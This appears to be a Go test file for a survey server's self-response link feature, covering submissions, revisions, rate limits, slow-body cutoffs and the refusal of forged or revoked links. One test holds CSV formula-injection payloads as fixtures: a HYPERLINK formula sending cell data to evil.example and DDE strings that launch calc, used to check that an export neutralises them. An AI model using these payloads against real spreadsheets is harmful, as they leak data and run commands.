package server_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"strconv"
	"strings"
	gosync "sync"
	"testing"
	"time"

	"tracer/forms/builtin"
	"tracer/survey"
	"tracer/survey/sqlite"
	"tracer/sync/client"
	"tracer/sync/server"
	"tracer/sync/testbed"
)

// linkEnv is a server with the employed persona's alumnus (and another) on its roster and
// a link for the persona's alumnus.
type linkEnv struct {
	*testbed.Env
	links *sqlite.LinkStore
	link  *survey.NewLink
	url   string // the link's URL
}

const personaRosterID = "BTG25-0071"

func newLinkEnv(t *testing.T) *linkEnv {
	t.Helper()
	return newLinkEnvWith(t, nil)
}

// newLinkEnvWith is newLinkEnv on a server whose configuration edit changes.
func newLinkEnvWith(t *testing.T, edit func(*server.Config)) *linkEnv {
	t.Helper()
	ctx := context.Background()
	env := testbed.NewEnv(t, edit, nil)
	if _, err := sqlite.NewServerRosterStore(env.DB).Upload(ctx, []*survey.Respondent{
		{RosterID: personaRosterID, Name: "Dimas Gunawan", Sex: "L", BatchID: "B1", Phone: "+6281234567001", Completion: "pass"},
		{RosterID: "BTG25-0072", Name: "Rina Wati", Sex: "P", BatchID: "B1", Phone: "+6281234567002", NIK: "6408064507040072", Completion: "pass"},
	}); err != nil {
		t.Fatal(err)
	}
	links := sqlite.NewLinkStore(env.DB)
	f, _, _ := testbed.Builtin()
	made, err := links.MakeLinks(ctx, survey.AssignSelector{RosterIDs: []string{personaRosterID}}, f.ID, time.Now().Add(24*time.Hour), "supri")
	if err != nil {
		t.Fatal(err)
	}
	return &linkEnv{Env: env, links: links, link: made[0], url: env.URL + "/r/" + made[0].Token}
}

// post sends doc through the link at url as the page's script does.
func postLink(t *testing.T, url string, doc []byte) (int, string) {
	t.Helper()
	resp := postInstance(t, url+"/submission", doc, nil)
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestLinkSubmission: answers sent through a link are stored as the alumnus's interview
// with mode web; the same answers again store nothing; other answers are the next revision;
// the response report counts the alumnus as a complete.
func TestLinkSubmission(t *testing.T) {
	ctx := context.Background()
	e := newLinkEnv(t)
	f, answers, _ := testbed.Builtin()
	// The page and its form: prefilled with his roster row, nobody else's.
	resp, err := http.Get(e.url + "/form.xml")
	if err != nil {
		t.Fatal(err)
	}
	xf, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	for _, want := range []string{"<full_name>Dimas Gunawan</full_name>", "<roster_id>" + personaRosterID + "</roster_id>", "<sex>L</sex>", `<data id="` + f.ID + `"`} {
		if resp.StatusCode != http.StatusOK || !bytes.Contains(xf, []byte(want)) {
			t.Errorf("form.xml (%d) has no %s", resp.StatusCode, want)
		}
	}
	// He is not asked how he is interviewed: the mode question is answered web and has no
	// control on his page.
	if !bytes.Contains(xf, []byte("<interview_mode>web</interview_mode>")) {
		t.Error("form.xml does not answer interview_mode web")
	}
	if bytes.Contains(xf, []byte(`ref="/data/grp_consent/interview_mode"`)) {
		t.Error("form.xml still shows the interview_mode question")
	}
	if !bytes.Contains(xf, []byte(`<bind nodeset="/data/grp_consent/interview_mode"`)) || !bytes.Contains(xf, []byte(`<select1 ref="/data/grp_consent/consent"`)) {
		t.Error("form.xml lost the mode's bind or another question's control")
	}
	if bytes.Contains(xf, []byte("Rina")) || bytes.Contains(xf, []byte("6408064507040072")) {
		t.Error("form.xml holds another alumnus's data")
	}
	if resp.Header.Get("Referrer-Policy") != "no-referrer" {
		t.Errorf("Referrer-Policy %q", resp.Header.Get("Referrer-Policy"))
	}

	doc := instanceXML(f, answers, "11111111-aaaa-4aaa-8aaa-000000000001")
	status, msg := postLink(t, e.url, doc)
	if status != http.StatusCreated || !strings.Contains(msg, "Terima kasih") {
		t.Fatalf("first submission: %d %q", status, msg)
	}
	sub, err := e.Subs.Get(ctx, e.link.Link.InterviewID, 1)
	if err != nil {
		t.Fatal(err)
	}
	rec, err := survey.DecodeRecord(sub.Body)
	if err != nil {
		t.Fatal(err)
	}
	if rec.Mode != survey.CaptureWeb || rec.RespondentID != personaRosterID || rec.Enumerator != "supri" || sub.SubmittedBy != "web/link" {
		t.Errorf("record mode %q respondent %q enumerator %q submitted by %q", rec.Mode, rec.RespondentID, rec.Enumerator, sub.SubmittedBy)
	}
	for _, a := range answers {
		if rec.Answers[a.Path] != a.Value {
			t.Errorf("answer %s = %q, want %q", a.Path, rec.Answers[a.Path], a.Value)
		}
	}

	// The same answers again (a new instanceID, as a reloaded page makes): nothing new.
	status, msg = postLink(t, e.url, instanceXML(f, answers, "11111111-aaaa-4aaa-8aaa-000000000002"))
	if status != http.StatusOK || !strings.Contains(msg, "already have") {
		t.Fatalf("same answers again: %d %q", status, msg)
	}
	if n, _ := e.Subs.Count(ctx); n != 1 {
		t.Fatalf("%d revisions after the same answers again, want 1", n)
	}
	changed := append([]survey.Answer(nil), answers...)
	for i := range changed {
		if changed[i].Path == "grp_job/hours_week" {
			changed[i].Value = "45"
		}
	}
	status, msg = postLink(t, e.url, instanceXML(f, changed, "11111111-aaaa-4aaa-8aaa-000000000003"))
	if status != http.StatusCreated {
		t.Fatalf("changed answers: %d %q", status, msg)
	}
	sub2, err := e.Subs.Get(ctx, e.link.Link.InterviewID, 2)
	if err != nil {
		t.Fatalf("the second submission is not revision 2: %v", err)
	}
	rec2, _ := survey.DecodeRecord(sub2.Body)
	if rec2.Answers["grp_job/hours_week"] != "45" {
		t.Errorf("revision 2 hours_week = %q", rec2.Answers["grp_job/hours_week"])
	}
	ls, err := e.links.Links(ctx)
	if err != nil || len(ls) != 1 || ls[0].Revisions != 2 || ls[0].LastUsedAt.IsZero() {
		t.Fatalf("links %+v, %v", ls, err)
	}

	// A supervisor approves it like any interview, and the tracing report counts the
	// alumnus's web interview as a complete.
	sup := testbed.Token(t, e.Users, "supri", survey.RoleSupervisor)
	areq, _ := http.NewRequest(http.MethodPost, e.URL+"/api/v1/interviews/"+e.link.Link.InterviewID+"/approve", strings.NewReader(`{"revision":2}`))
	areq.Header.Set("Authorization", "Bearer "+sup)
	aresp, err := http.DefaultClient.Do(areq)
	if err != nil {
		t.Fatal(err)
	}
	aresp.Body.Close()
	if aresp.StatusCode != http.StatusOK {
		t.Fatalf("approve: %d", aresp.StatusCode)
	}
	tok := testbed.Token(t, e.Users, "ana", survey.RoleAnalyst)
	req, _ := http.NewRequest(http.MethodGet, e.URL+"/api/v1/report?section=response&format=json", nil)
	req.Header.Set("Authorization", "Bearer "+tok)
	resp, err = http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var rep struct {
		Dispositions []struct {
			Code string `json:"code"`
			N    int    `json:"n"`
		} `json:"dispositions"`
	}
	body, _ := io.ReadAll(resp.Body)
	if err := json.Unmarshal(body, &rep); err != nil {
		t.Fatalf("report: %v\n%s", err, body)
	}
	got := map[string]int{}
	for _, d := range rep.Dispositions {
		got[d.Code] = d.N
	}
	if got["1.1"] != 1 {
		t.Errorf("dispositions %v: the web interview is not one complete", got)
	}
}

// TestLinkAtOnce sends through one link twice at once: two different answer sets become
// revisions 1 and 2, both kept; the same answers twice at once are stored once.
func TestLinkAtOnce(t *testing.T) {
	ctx := context.Background()
	for _, same := range []bool{false, true} {
		e := newLinkEnv(t)
		f, answers, _ := testbed.Builtin()
		docs := [2][]byte{instanceXML(f, answers, "22222222-aaaa-4aaa-8aaa-000000000001")}
		other := append([]survey.Answer(nil), answers...)
		for i := range other {
			if other[i].Path == "grp_job/hours_week" && !same {
				other[i].Value = "44"
			}
		}
		docs[1] = instanceXML(f, other, "22222222-aaaa-4aaa-8aaa-000000000002")
		var wg gosync.WaitGroup
		statuses := make([]int, 2)
		start := make(chan struct{})
		for i := range 2 {
			wg.Go(func() {
				<-start
				statuses[i], _ = postLink(t, e.url, docs[i])
			})
		}
		close(start)
		wg.Wait()
		n, _ := e.Subs.Count(ctx)
		want := 2
		if same {
			want = 1
		}
		if n != want {
			t.Errorf("same answers %v: %d revisions stored, want %d (statuses %v)", same, n, want, statuses)
		}
		for _, s := range statuses {
			if s != http.StatusCreated && s != http.StatusOK {
				t.Errorf("same answers %v: statuses %v", same, statuses)
			}
		}
		if _, err := e.Subs.Get(ctx, e.link.Link.InterviewID, want); err != nil {
			t.Errorf("revision %d: %v", want, err)
		}
		if same {
			continue
		}
		// Both answer sets are kept, one as revision 1 and the other as revision 2: neither
		// is lost nor stored twice, and both senders were told their answers are saved.
		hours := map[string]int{}
		for rev := 1; rev <= 2; rev++ {
			sub, err := e.Subs.Get(ctx, e.link.Link.InterviewID, rev)
			if err != nil {
				t.Fatalf("revision %d: %v", rev, err)
			}
			rec, err := survey.DecodeRecord(sub.Body)
			if err != nil {
				t.Fatal(err)
			}
			hours[rec.Answers["grp_job/hours_week"]]++
		}
		if len(hours) != 2 || hours["44"] != 1 {
			t.Errorf("hours_week in revisions 1 and 2: %v, want each answer set once", hours)
		}
		if statuses[0] != http.StatusCreated || statuses[1] != http.StatusCreated {
			t.Errorf("statuses %v, want 201 for both", statuses)
		}
		if ls, _ := e.links.Links(ctx); ls[0].Revisions != 2 {
			t.Errorf("the link counts %d revisions, want 2", ls[0].Revisions)
		}
	}
}

// TestLinkRefused: a forged token, a revoked link, an expired link, a link replaced by a
// new one, answers naming another alumnus and too many submissions are refused with a
// clear message and store nothing; the page of a bad link says so in Indonesian.
func TestLinkRefused(t *testing.T) {
	ctx := context.Background()
	e := newLinkEnv(t)
	f, answers, _ := testbed.Builtin()
	doc := instanceXML(f, answers, "33333333-aaaa-4aaa-8aaa-000000000001")

	for _, url := range []string{e.URL + "/r/forged-token", e.URL + "/r/" + strings.Repeat("A", 43)} {
		if status, msg := postLink(t, url, doc); status != http.StatusGone || !strings.Contains(msg, "tidak berlaku") {
			t.Errorf("forged link: %d %q", status, msg)
		}
		resp, err := http.Get(url)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusGone || !bytes.Contains(b, []byte("Tautan ini tidak berlaku")) || bytes.Contains(b, []byte("Dimas")) {
			t.Errorf("page of a forged link: %d %s", resp.StatusCode, b)
		}
	}

	// Answers that name another alumnus.
	other := append([]survey.Answer(nil), answers...)
	for i := range other {
		if other[i].Path == "grp_consent/roster_id" {
			other[i].Value = "BTG25-0072"
		}
	}
	if status, msg := postLink(t, e.url, instanceXML(f, other, "33333333-aaaa-4aaa-8aaa-000000000002")); status != http.StatusForbidden || !strings.Contains(msg, "one alumnus only") {
		t.Errorf("another alumnus's id: %d %q", status, msg)
	}

	// A new link for the same alumnus replaces the old one and keeps the interview.
	again, err := e.links.MakeLinks(ctx, survey.AssignSelector{RosterIDs: []string{personaRosterID}}, f.ID, time.Now().Add(time.Hour), "supri")
	if err != nil {
		t.Fatal(err)
	}
	if again[0].Link.InterviewID != e.link.Link.InterviewID || again[0].Token == e.link.Token {
		t.Errorf("a new link: interview %s (was %s)", again[0].Link.InterviewID, e.link.Link.InterviewID)
	}
	if status, _ := postLink(t, e.url, doc); status != http.StatusGone {
		t.Errorf("the replaced link: %d", status)
	}
	newURL := e.URL + "/r/" + again[0].Token
	if err := e.links.RevokeLink(ctx, again[0].Link.ID); err != nil {
		t.Fatal(err)
	}
	if status, _ := postLink(t, newURL, doc); status != http.StatusGone {
		t.Errorf("a revoked link: %d", status)
	}
	if err := e.links.RevokeLink(ctx, "Lnope"); survey.ErrorCode(err) != survey.ENOTFOUND {
		t.Errorf("revoke an unknown link: %v", err)
	}

	// An expired link.
	third, err := e.links.MakeLinks(ctx, survey.AssignSelector{Batch: "B1"}, f.ID, time.Now().Add(time.Hour), "supri")
	if err != nil || len(third) != 2 {
		t.Fatalf("links for batch B1: %d, %v", len(third), err)
	}
	e.DB.Now = func() time.Time { return time.Now().Add(2 * time.Hour) }
	if status, _ := postLink(t, e.URL+"/r/"+third[0].Token, doc); status != http.StatusGone {
		t.Errorf("an expired link: %d", status)
	}
	e.DB.Now = time.Now
	if n, _ := e.Subs.Count(ctx); n != 0 {
		t.Fatalf("%d revisions stored through refused links", n)
	}

	// Rate limit: five submissions a minute through one link.
	url := e.URL + "/r/" + third[0].Token
	var last int
	var msg string
	for i := range 7 {
		changed := append([]survey.Answer(nil), answers...)
		for j := range changed {
			if changed[j].Path == "grp_job/hours_week" {
				changed[j].Value = []string{"30", "31", "32", "33", "34", "35", "36"}[i]
			}
		}
		last, msg = postLink(t, url, instanceXML(f, changed, "33333333-aaaa-4aaa-8aaa-00000000001"+string(rune('0'+i))))
	}
	if last != http.StatusTooManyRequests || !strings.Contains(msg, "Too many submissions") {
		t.Errorf("the 7th submission in a minute: %d %q", last, msg)
	}
	if n, _ := e.Subs.Count(ctx); n != 5 {
		t.Errorf("%d revisions stored through a rate-limited link, want 5", n)
	}
}

// TestLinkAPI makes, lists and revokes links through the supervisor's API as the TUI does:
// the tokens come back once with each alumnus's id, name and phone and nothing else of his
// row; the list follows each link from unused to opened to answered, and to revoked.
func TestLinkAPI(t *testing.T) {
	ctx := context.Background()
	e := newLinkEnv(t)
	f, answers, _ := testbed.Builtin()
	sup, err := client.NewClient(e.URL, client.WithToken(testbed.Token(t, e.Users, "sari", survey.RoleSupervisor)))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sup.MakeLinks(ctx, survey.AssignSelector{Batch: "B1", Kejuruan: "LAS"}, f.ID, time.Now().Add(time.Hour)); survey.ErrorCode(err) != survey.EINVALID {
		t.Errorf("two ways at once: %v, want EINVALID", err)
	}
	if _, err := sup.MakeLinks(ctx, survey.AssignSelector{Batch: "B9"}, f.ID, time.Now().Add(time.Hour)); survey.ErrorCode(err) != survey.ENOTFOUND {
		t.Errorf("a batch with nobody: %v, want ENOTFOUND", err)
	}
	made, err := sup.MakeLinks(ctx, survey.AssignSelector{Batch: "B1"}, f.ID, time.Now().Add(48*time.Hour))
	if err != nil || len(made) != 2 {
		t.Fatalf("make: %d links, %v", len(made), err)
	}
	rina := made[1]
	if rina.Token == "" || rina.Respondent.Name != "Rina Wati" || rina.Respondent.Phone != "+6281234567002" || rina.Respondent.NIK != "" || rina.Link.CreatedBy != "sari" {
		t.Errorf("made %+v %+v", rina.Link, rina.Respondent)
	}
	states := func() map[string]survey.LinkState {
		t.Helper()
		ls, err := sup.Links(ctx)
		if err != nil {
			t.Fatal(err)
		}
		out := map[string]survey.LinkState{}
		for _, l := range ls {
			out[l.ID] = l.State(time.Now())
		}
		return out
	}
	if got := states(); got[rina.Link.ID] != survey.LinkUnused || got[e.link.Link.ID] != survey.LinkRevoked || got[made[0].Link.ID] != survey.LinkUnused {
		t.Errorf("states after making: %v", got)
	}
	url := e.URL + "/r/" + made[0].Token
	resp, err := http.Get(url + "/form.xml")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if got := states(); got[made[0].Link.ID] != survey.LinkOpened || got[rina.Link.ID] != survey.LinkUnused {
		t.Errorf("states after opening Dimas's link: %v", got)
	}
	if status, msg := postLink(t, url, instanceXML(f, answers, "44444444-aaaa-4aaa-8aaa-000000000001")); status != http.StatusCreated {
		t.Fatalf("submission: %d %q", status, msg)
	}
	if got := states(); got[made[0].Link.ID] != survey.LinkAnswered {
		t.Errorf("states after answering: %v", got)
	}
	if err := sup.RevokeLink(ctx, rina.Link.ID); err != nil {
		t.Fatal(err)
	}
	if got := states(); got[rina.Link.ID] != survey.LinkRevoked {
		t.Errorf("states after revoking: %v", got)
	}
	if resp, err := http.Get(e.URL + "/r/" + rina.Token); err != nil || resp.StatusCode != http.StatusGone {
		t.Errorf("a revoked link's page: %v %v", resp, err)
	} else {
		resp.Body.Close()
	}
	if err := sup.RevokeLink(ctx, "Lnope"); survey.ErrorCode(err) != survey.ENOTFOUND {
		t.Errorf("revoke an unknown link: %v", err)
	}
}

// TestLinkBadInputKeepsWhatIsStored: after a first answer is stored through a link, a body
// over the server's limit (declared, or sent in chunks as a 50 MB attachment), a forged
// token, the link once expired and once revoked are each refused with a clear message;
// the revision stored before is untouched and the server keeps serving.
func TestLinkBadInputKeepsWhatIsStored(t *testing.T) {
	ctx := context.Background()
	e := newLinkEnv(t)
	f, answers, _ := testbed.Builtin()
	if status, msg := postLink(t, e.url, instanceXML(f, answers, "55555555-aaaa-4aaa-8aaa-000000000001")); status != http.StatusCreated {
		t.Fatalf("first submission: %d %q", status, msg)
	}
	first, err := e.Subs.Get(ctx, e.link.Link.InterviewID, 1)
	if err != nil {
		t.Fatal(err)
	}
	changed := append([]survey.Answer(nil), answers...)
	for i := range changed {
		if changed[i].Path == "grp_job/hours_week" {
			changed[i].Value = "41"
		}
	}
	doc := instanceXML(f, changed, "55555555-aaaa-4aaa-8aaa-000000000002")
	kept := func(what string) {
		t.Helper()
		if n, _ := e.Subs.Count(ctx); n != 1 {
			t.Errorf("%s: %d revisions stored, want the first one only", what, n)
		}
		got, err := e.Subs.Get(ctx, e.link.Link.InterviewID, 1)
		if err != nil || !bytes.Equal(got.Body, first.Body) {
			t.Errorf("%s: the first revision changed (%v)", what, err)
		}
		resp, err := http.Get(e.URL + "/healthz")
		if err != nil || resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: the server stopped serving: %v", what, err)
		}
		resp.Body.Close()
	}

	// A body declared over the limit is refused before it is read.
	req, _ := http.NewRequest(http.MethodPost, e.url+"/submission", io.LimitReader(zeros{}, 9<<20))
	req.ContentLength = 9 << 20
	req.Header.Set("Content-Type", "multipart/form-data; boundary=x")
	if resp, err := http.DefaultClient.Do(req); err == nil {
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(string(b), "Kiriman terlalu besar (lebih dari 8 MB)") {
			t.Errorf("a body declared over the limit: %d %q", resp.StatusCode, b)
		}
	} else if !strings.Contains(err.Error(), "connection reset") && !strings.Contains(err.Error(), "broken pipe") {
		t.Errorf("a body declared over the limit: %v", err)
	}
	kept("a body declared over the limit")

	// The answers with a 50 MB attachment, sent in chunks: the server stops reading at its
	// limit.
	resp := postInstance(t, e.url+"/submission", doc, map[string]int64{"photo.jpg": 50 << 20})
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(string(b), "Kiriman terlalu besar") || !strings.Contains(string(b), "too large") {
		t.Errorf("a 50 MB attachment: %d %q", resp.StatusCode, b)
	}
	kept("a 50 MB attachment")

	// A forged token.
	if status, msg := postLink(t, e.URL+"/r/"+strings.Repeat("Q", 43), doc); status != http.StatusGone || !strings.Contains(msg, "Tautan ini tidak berlaku") {
		t.Errorf("a forged link: %d %q", status, msg)
	}
	kept("a forged link")

	// The link once it expired.
	e.DB.Now = func() time.Time { return time.Now().Add(48 * time.Hour) }
	if status, msg := postLink(t, e.url, doc); status != http.StatusGone || !strings.Contains(msg, "kedaluwarsa") {
		t.Errorf("the expired link: %d %q", status, msg)
	}
	e.DB.Now = time.Now
	kept("the expired link")

	// The link revoked.
	if err := e.links.RevokeLink(ctx, e.link.Link.ID); err != nil {
		t.Fatal(err)
	}
	if status, msg := postLink(t, e.url, doc); status != http.StatusGone || !strings.Contains(msg, "dicabut") {
		t.Errorf("the revoked link: %d %q", status, msg)
	}
	kept("the revoked link")
}

// TestLinksCSVNeutralisesFormulas: links made through the API for alumni whose roster rows
// hold spreadsheet formulas (=HYPERLINK, @SUM, a tab) are written to the links CSV a
// supervisor opens in a spreadsheet with every such cell shown as text, never as a formula.
func TestLinksCSVNeutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	env := testbed.NewEnv(t, nil, nil)
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"klik")`, `@SUM(1+1)*cmd|' /C calc'!A0`, "-2+3+cmd|' /C calc'!A0", "\t=1+1"}
	var rows []*survey.Respondent
	for i, name := range hostile {
		rows = append(rows, &survey.Respondent{RosterID: fmt.Sprintf("BTG25-%04d", i+1), Name: name, Sex: "L", BatchID: "B1", Completion: "pass"})
	}
	if _, err := sqlite.NewServerRosterStore(env.DB).Upload(ctx, rows); err != nil {
		t.Fatal(err)
	}
	f, _, _ := testbed.Builtin()
	sup, err := client.NewClient(env.URL, client.WithToken(testbed.Token(t, env.Users, "sari", survey.RoleSupervisor)))
	if err != nil {
		t.Fatal(err)
	}
	made, err := sup.MakeLinks(ctx, survey.AssignSelector{Batch: "B1"}, f.ID, time.Now().Add(time.Hour))
	if err != nil || len(made) != len(hostile) {
		t.Fatalf("make: %d links, %v", len(made), err)
	}
	var b bytes.Buffer
	if err := survey.WriteLinksCSV(&b, "https://tracer.example", made); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, row := range got[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !survey.PlainNumber(cell) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
		names[row[1]] = true
	}
	for _, name := range hostile {
		if !names["'"+name] {
			t.Errorf("name %q is not in the CSV as text ('%s): %v", name, name, names)
		}
	}
}

// TestSlowLinkBodiesLeaveASlot: bodies trickling in through self-response links (anyone
// holding one link can send them) never take every decoding slot: a laptop's push is
// served meanwhile.
func TestSlowLinkBodiesLeaveASlot(t *testing.T) {
	ctx := context.Background()
	env := testbed.NewEnv(t, func(c *server.Config) { c.DecodeWait = 300 * time.Millisecond }, nil)
	if _, err := sqlite.NewServerRosterStore(env.DB).Upload(ctx, []*survey.Respondent{
		{RosterID: "BTG25-0001", Name: "Dimas Gunawan", Sex: "L", BatchID: "B1", Completion: "pass"},
		{RosterID: "BTG25-0002", Name: "Rina Wati", Sex: "P", BatchID: "B1", Completion: "pass"},
	}); err != nil {
		t.Fatal(err)
	}
	f, _, _ := testbed.Builtin()
	made, err := sqlite.NewLinkStore(env.DB).MakeLinks(ctx, survey.AssignSelector{Batch: "B1"}, f.ID, time.Now().Add(time.Hour), "supri")
	if err != nil {
		t.Fatal(err)
	}
	var conns []net.Conn
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	for i := range 4 { // two bodies through each link
		conn, err := net.Dial("tcp", env.HTTP.Listener.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		conns = append(conns, conn)
		fmt.Fprintf(conn, "POST /r/%s/submission HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 100000\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"xml_submission_file\"\r\n\r\n<data",
			made[i%2].Token)
	}
	time.Sleep(200 * time.Millisecond) // the slow bodies are being read
	tok := testbed.Token(t, env.Users, "ani", survey.RoleEnumerator)
	lap := testbed.NewLaptop(t)
	want, err := testbed.Seed(ctx, lap.Interviews, "ani", 3)
	if err != nil {
		t.Fatal(err)
	}
	if sum := syncOnce(t, newClient(t, env.URL, tok), lap); sum.Count(survey.OutcomeStored) != 3 {
		t.Fatalf("a laptop's sync while link bodies trickle: %+v", sum)
	}
	testbed.CheckSame(t, env.Subs, want, lap)
}

// TestSlowLinkBodyIsCutOff: a body trickled through one link is cut off after LinkBodyTime
// with a message saying to send again, and another alumnus's answers sent meanwhile
// through his own link are stored.
func TestSlowLinkBodyIsCutOff(t *testing.T) {
	ctx := context.Background()
	env := testbed.NewEnv(t, func(c *server.Config) { c.DecodeWait, c.LinkBodyTime = 5*time.Second, 300*time.Millisecond }, nil)
	if _, err := sqlite.NewServerRosterStore(env.DB).Upload(ctx, []*survey.Respondent{
		{RosterID: personaRosterID, Name: "Dimas Gunawan", Sex: "L", BatchID: "B1", Phone: "+6281234567001", Completion: "pass"},
		{RosterID: "BTG25-0072", Name: "Rina Wati", Sex: "P", BatchID: "B1", Phone: "+6281234567002", Completion: "pass"},
	}); err != nil {
		t.Fatal(err)
	}
	f, answers, _ := testbed.Builtin()
	links := sqlite.NewLinkStore(env.DB)
	dimas, err := links.MakeLinks(ctx, survey.AssignSelector{RosterIDs: []string{personaRosterID}}, f.ID, time.Now().Add(time.Hour), "supri")
	if err != nil {
		t.Fatal(err)
	}
	rina, err := links.MakeLinks(ctx, survey.AssignSelector{RosterIDs: []string{"BTG25-0072"}}, f.ID, time.Now().Add(time.Hour), "supri")
	if err != nil {
		t.Fatal(err)
	}
	conn, err := net.Dial("tcp", env.HTTP.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "POST /r/%s/submission HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 100000\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"xml_submission_file\"\r\n\r\n<data",
		rina[0].Token)
	go func() {
		for range 200 { // a byte every 50 ms, for 10 s
			if _, err := conn.Write([]byte(" ")); err != nil {
				return
			}
			time.Sleep(50 * time.Millisecond)
		}
	}()
	time.Sleep(100 * time.Millisecond) // the slow body holds the links' slot
	status, msg := postLink(t, env.URL+"/r/"+dimas[0].Token, instanceXML(f, answers, "55555555-aaaa-4aaa-8aaa-000000000001"))
	if status != http.StatusCreated {
		t.Errorf("another alumnus's answers while a body trickles: %d %q, want 201", status, msg)
	}
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("the slow body got no answer: %v", err)
	}
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(string(b), "took too long to arrive") {
		t.Errorf("the slow body: %d %q, want 400 saying it took too long", resp.StatusCode, b)
	}
}

// TestLinkLimitsPerClientBehindProxy: behind a reverse proxy on the server's machine (every
// connection from loopback), the per-address limit of the link routes counts the client
// the proxy names in X-Forwarded-For: one client that uses up its share guessing tokens is
// refused while another alumnus's page still opens. The client's own X-Forwarded-For
// entries, which the proxy keeps before the address it adds, are not believed.
func TestLinkLimitsPerClientBehindProxy(t *testing.T) {
	e := newLinkEnv(t)
	get := func(fwd string) int {
		url := e.url
		if fwd != "203.0.113.6" && !strings.HasPrefix(fwd, "2001:") {
			url = e.URL + "/r/" + strings.Repeat("Z", len(e.link.Token)) // a guess
		}
		req, _ := http.NewRequest(http.MethodGet, url, nil)
		req.Header.Set("X-Forwarded-For", fwd)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	refused := false
	for i := range 40 { // over the burst of 30, each claiming another address first
		if get(fmt.Sprintf("10.9.9.%d, 203.0.113.5", i)) == http.StatusTooManyRequests {
			refused = true
			break
		}
	}
	if !refused {
		t.Fatal("40 requests at once from one client behind the proxy were all served")
	}
	if status := get("203.0.113.6"); status != http.StatusOK {
		t.Errorf("another client's page behind the proxy: %d, want 200", status)
	}
	if status := get("2001:db8:1:2::7, 2001:db8:1:2::8"); status != http.StatusOK {
		t.Errorf("an IPv6 client's page: %d, want 200", status)
	}
}

// TestLinkRevisionsAreBounded: a link stores at most LinkRevisions revisions of its
// interview, however slowly they come (the per-link rate alone let a script store a
// revision of up to a megabyte five times a minute for the link's whole life); the one
// over the bound is refused with a clear message and stores nothing, and the same answers
// again are still told they arrived.
func TestLinkRevisionsAreBounded(t *testing.T) {
	ctx := context.Background()
	var mu gosync.Mutex
	now := time.Now()
	e := newLinkEnvWith(t, func(c *server.Config) {
		c.LinkRevisions = 3
		c.Now = func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
	})
	f, answers, _ := testbed.Builtin()
	send := func(i int) (int, string) {
		mu.Lock()
		now = now.Add(time.Hour) // past every rate limit
		mu.Unlock()
		changed := append([]survey.Answer(nil), answers...)
		for j := range changed {
			if changed[j].Path == "grp_job/hours_week" {
				changed[j].Value = strconv.Itoa(30 + i)
			}
		}
		return postLink(t, e.url, instanceXML(f, changed, fmt.Sprintf("11111111-aaaa-4aaa-8aaa-%012d", i)))
	}
	for i := 1; i <= 3; i++ {
		if status, msg := send(i); status != http.StatusCreated {
			t.Fatalf("revision %d: %d %q", i, status, msg)
		}
	}
	status, msg := send(4)
	if status != http.StatusForbidden || !strings.Contains(msg, "3 kali") || !strings.Contains(msg, "3 times") || strings.Contains(msg, "%!") {
		t.Errorf("a fourth revision: %d %q, want 403 naming the bound", status, msg)
	}
	if n, _ := e.Subs.Count(ctx); n != 3 {
		t.Errorf("%d revisions stored, want 3", n)
	}
	if status, msg := send(3); status != http.StatusOK || !strings.Contains(msg, "already have") {
		t.Errorf("the last answers again: %d %q, want 200 already have", status, msg)
	}
}

// TestLinkFormLoadsPerLink: a link's prefilled form, written anew for each load, is loaded
// at most so often through one link, whatever the addresses asking (a client with many
// addresses passes the per-address limit): the load over the bound is refused with a
// clear message, and another alumnus's link still loads.
func TestLinkFormLoadsPerLink(t *testing.T) {
	e := newLinkEnv(t)
	f, _, _ := testbed.Builtin()
	other, err := e.links.MakeLinks(context.Background(), survey.AssignSelector{RosterIDs: []string{"BTG25-0072"}}, f.ID, time.Now().Add(24*time.Hour), "supri")
	if err != nil {
		t.Fatal(err)
	}
	load := func(url string, i int) (int, string) {
		req, _ := http.NewRequest(http.MethodGet, url+"/form.xml", nil)
		req.Header.Set("X-Forwarded-For", fmt.Sprintf("2001:db8:5:%x::1", i))
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	refused := ""
	for i := range 40 {
		status, body := load(e.url, i)
		if status == http.StatusTooManyRequests {
			refused = body
			break
		}
		if status != http.StatusOK {
			t.Fatalf("load %d: %d %q", i, status, body)
		}
	}
